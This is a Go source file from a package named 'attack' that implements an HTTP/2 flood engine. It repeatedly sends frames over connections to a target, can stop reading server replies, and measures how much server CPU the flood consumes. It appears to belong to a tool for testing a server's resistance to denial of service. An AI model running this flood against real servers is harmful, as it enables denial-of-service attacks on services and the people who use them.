package attack

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// A Flood sends one piece of frames over and over on a connection that was
// prepared for it.
type Flood struct {
	// Settings are those of the client.
	Settings []http2.Setting
	// Prepare opens what the flood is about, such as streams. It may be nil.
	Prepare func(*h2) error
	// Frames collects some kilobytes of the flood. It is called for each piece, as ids
	// of streams go on.
	Frames func(*h2)
	// Unread has the client read nothing.
	Unread bool
}

// act floods one connection until the server ends it.
func (f *Flood) act(ctx context.Context, t Target, tally *Tally) error {
	_, err := f.flood(ctx, t, tally, 1<<40, func() {})
	return err
}

// Burst sends so many bytes of the flood, over new connections when the server
// ends one. It returns how many were sent when the server has seen them all, and
// what the clock, that of the server's CPU, says they took: what prepares the
// connections is not part of either.
func (f *Flood) Burst(ctx context.Context, t Target, size int64, clock func() time.Duration) (sent int64, spent time.Duration) {
	tally := new(Tally)
	for sent < size && ctx.Err() == nil {
		start := time.Duration(-1)
		n, _ := f.flood(ctx, t, tally, size-sent, func() { start = clock() })
		if start >= 0 {
			spent += clock() - start
		}
		if sent += n; n == 0 {
			rest(ctx)
		}
	}
	return sent, spent
}

// Pings that tell that the server has come so far.
var (
	prepared = [8]byte{'p', 'r', 'e', 'p', 'a', 'r', 'e', 'd'}
	last     = [8]byte{'l', 'a', 's', 't'}
)

// flood sends so many bytes on one connection and returns when the server has
// seen them or has ended the connection. It calls begin when the connection is
// prepared.
func (f *Flood) flood(ctx context.Context, t Target, tally *Tally, size int64, begin func()) (sent int64, err error) {
	c, err := open(ctx, t, tally, f.Settings...)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	var done <-chan error
	ready := make(chan struct{}, 1)
	if !f.Unread {
		done = c.background(func(fr http2.Frame) bool {
			p, ok := fr.(*http2.PingFrame)
			if ok && p.IsAck() && p.Data == prepared {
				ready <- struct{}{}
			}
			return ok && p.IsAck() && p.Data == last
		})
	}
	if f.Prepare != nil {
		if err := f.Prepare(c); err != nil {
			return 0, err
		}
		if err := c.ping(prepared, ready, done); err != nil {
			return 0, err
		}
		rest(ctx) // the calls that were opened run
	}
	begin()
	for sent < size {
		f.Frames(c)
		n := int64(c.out.Len())
		if f.Unread {
			// The server may stop reading a client that does not read.
			c.SetWriteDeadline(time.Now().Add(time.Second))
		}
		if err := c.flush(); err != nil {
			return sent, err
		}
		sent += n
		select {
		case err := <-done:
			return sent, err
		default:
		}
	}
	if f.Unread {
		return sent, nil
	}
	return sent, c.ping(last, nil, done)
}

// ping sends a ping and waits for seen, or for the end of the reader.
func (c *h2) ping(data [8]byte, seen <-chan struct{}, done <-chan error) error {
	c.framer.WritePing(false, data)
	if err := c.flush(); err != nil {
		return err
	}
	select {
	case <-seen:
		return nil
	case err := <-done:
		return err
	case <-time.After(10 * time.Second):
		return context.DeadlineExceeded
	}
}
